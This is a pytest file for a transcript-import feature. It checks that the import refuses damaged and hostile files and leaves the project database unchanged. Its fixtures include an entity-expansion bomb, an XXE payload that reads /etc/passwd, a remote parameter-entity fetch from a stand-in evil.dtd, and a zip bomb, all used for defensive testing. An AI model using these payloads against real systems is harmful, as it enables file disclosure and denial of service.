"""Bad and hostile files are refused with a message naming the file and the problem, and the
project file is left byte for byte as it was (compared after closing, so the WAL is folded in)."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import docx
import pytest

from app.core.transcript_formats import safe_xml
from app.services.transcript_import import TranscriptImportError, import_transcript
from app.store.project import Project
from fixtures.small_study import build_small_study

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE Trans [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Trans><Speakers/><Episode><Section><Turn speaker="spk1" startTime="0" endTime="1">&lol9;</Turn></Section></Episode></Trans>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Trans [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Trans><Episode><Section><Turn speaker="spk1" startTime="0" endTime="1">&secret;</Turn></Section></Episode></Trans>
"""
EXTERNAL_PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Trans [<!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote;]>
<Trans/>
"""
UNDEFINED_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Trans SYSTEM "trans-14.dtd">
<Trans><Episode><Section><Turn speaker="spk1" startTime="0" endTime="1">&eacute;</Turn></Section></Episode></Trans>
"""


def word_bytes(text: str = "I : Bonjour.\nE : Bonjour.") -> bytes:
    document = docx.Document()
    for line in text.split("\n"):
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def word_with_doctype() -> bytes:
    with zipfile.ZipFile(io.BytesIO(word_bytes())) as source:
        members = {name: source.read(name) for name in source.namelist()}
    members["word/document.xml"] = members["word/document.xml"].replace(
        b"?>", b'?><!DOCTYPE w:document [<!ENTITY lol "lol">]>', 1)
    return zipped(members)


def odt_bomb() -> bytes:
    # 60 MB of spaces compress to about 60 KB: small on disk, too big once unpacked.
    content = b'<?xml version="1.0"?><office:document-content>' + b" " * (60 * 1024 * 1024)
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content})


HOSTILE = {
    "binary.txt": (lambda: bytes(range(256)) * 40, "binary data"),
    "empty.txt": (lambda: b"", "is empty"),
    "blank.txt": (lambda: b"  \n\n\t\n", "no speech"),
    "truncated.docx": (lambda: word_bytes()[:3000], "damaged or truncated"),
    "not-a-zip.docx": (lambda: b"I: this is text named .docx", "damaged or not really one"),
    "notes.xyz": (lambda: b"I: Bonjour\nE: Bonjour", "does not know the .xyz format"),
    "scan.pdf": (lambda: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "it is a PDF"),
    "old.doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old Word"),
    "bomb.trs": (lambda: BILLION_LAUGHS.encode(), "declares its own entities"),
    "xxe.trs": (lambda: EXTERNAL_ENTITY.encode(), "declares its own entities"),
    "parameter.trs": (lambda: EXTERNAL_PARAMETER_ENTITY.encode(), "declares its own entities"),
    "undefined.trs": (lambda: UNDEFINED_ENTITY.encode(), "entities that Terrain does not expand"),
    "unclosed.trs": (lambda: b'<?xml version="1.0"?><Trans><Episode>', "damaged at line 1"),
    "doctype.docx": (word_with_doctype, "document type declaration"),
    "bomb.odt": (odt_bomb, "larger than 50 MB"),
    "no-cues.vtt": (lambda: b"WEBVTT\n\nNOTE nothing here\n", "holds no cue"),
    "broken.TextGrid": (lambda: b'File type = "ooTextFile"\nObject class = "TextGrid"\n\n0\n10\n<exists>\n1\n"IntervalTier"\n',
                        "truncated"),
    "bad-bom.txt": (lambda: b"\xef\xbb\xbfI: caf\xe9\n", "announces UTF-8 but byte 9"),
}


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def closed_project(tmp_path) -> Path:
    path = tmp_path / "study.terrain"
    build_small_study(path).close()
    return path


def refused(project_path: Path, file: Path, **options) -> TranscriptImportError:
    """Import ``file``, expecting a refusal; checks that the project file did not change at all."""
    before = sha256(project_path)
    with Project.open(project_path) as project:
        dump_before = list(project.db.conn.iterdump())
        with pytest.raises(TranscriptImportError) as refusal:
            import_transcript(project, file, **options)
        assert list(project.db.conn.iterdump()) == dump_before
    assert sha256(project_path) == before
    assert not Path(f"{project_path}-wal").exists() or Path(f"{project_path}-wal").stat().st_size == 0
    return refusal.value


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_files_are_refused_and_the_project_is_unchanged(closed_project, tmp_path, name):
    make, problem = HOSTILE[name]
    file = tmp_path / name
    file.write_bytes(make())
    error = refused(closed_project, file)
    assert name in str(error) and problem in str(error)


def test_a_100_mb_text_is_refused_naming_the_size_limit(closed_project, tmp_path):
    file = tmp_path / "huge.txt"
    line = b"I: " + b"bla " * 250 + b"\n"
    with file.open("wb") as handle:
        for _block in range(100 * 1024 * 1024 // len(line) + 1):
            handle.write(line)
    error = refused(closed_project, file)
    assert "huge.txt" in str(error) and "larger than 50 MB" in str(error)


def test_an_archive_that_would_unpack_too_big_is_not_opened(closed_project, tmp_path, monkeypatch):
    # The real limit is 200 MB; lowered here so that an ordinary document stands for a zip bomb.
    monkeypatch.setattr(safe_xml, "MAX_UNPACKED_BYTES", 10_000)
    file = tmp_path / "bomb.docx"
    file.write_bytes(word_bytes())
    assert "would unpack to more than" in str(refused(closed_project, file))


def test_missing_file_and_folder(closed_project, tmp_path):
    assert "cannot be read" in str(refused(closed_project, tmp_path / "absent.txt"))
    assert "folder" in str(refused(closed_project, tmp_path))


def test_a_failure_while_storing_rolls_everything_back(closed_project, tmp_path, monkeypatch):
    """The interview made for the participant, the transcript and its turns all go, not just the last write."""
    file = tmp_path / "P02.txt"
    file.write_text("I : Vous êtes là depuis quand ?\nE : Deux ans.\n", encoding="utf-8")

    def broken_audit(self, *args, **kwargs):
        raise TranscriptImportError(file, "the disk is full (simulated).")

    monkeypatch.setattr(Project, "audit", broken_audit)
    assert "simulated" in str(refused(closed_project, file, participant_code="P02"))


def test_refusals_about_where_to_attach_leave_the_project_unchanged(closed_project, tmp_path):
    file = tmp_path / "entretien.txt"
    file.write_text("I : Bonjour ?\nE : Bonjour.\n", encoding="utf-8")
    assert "no participant has the code ZZZ-99" in str(refused(closed_project, file, participant_code="ZZZ-99"))
    assert "withdrawn" in str(refused(closed_project, file, participant_code="P05"))
    assert "no interview has the id nope" in str(refused(closed_project, file, interview_id="nope"))
    both = refused(closed_project, file, interview_id="x", participant_code="P01")
    assert "not both" in str(both)
    assert "no speaker is labelled Bob" in str(refused(closed_project, file, interviewers=["Bob"]))
    assert "not a speaker role" in str(refused(closed_project, file, roles={"I": "boss"}))
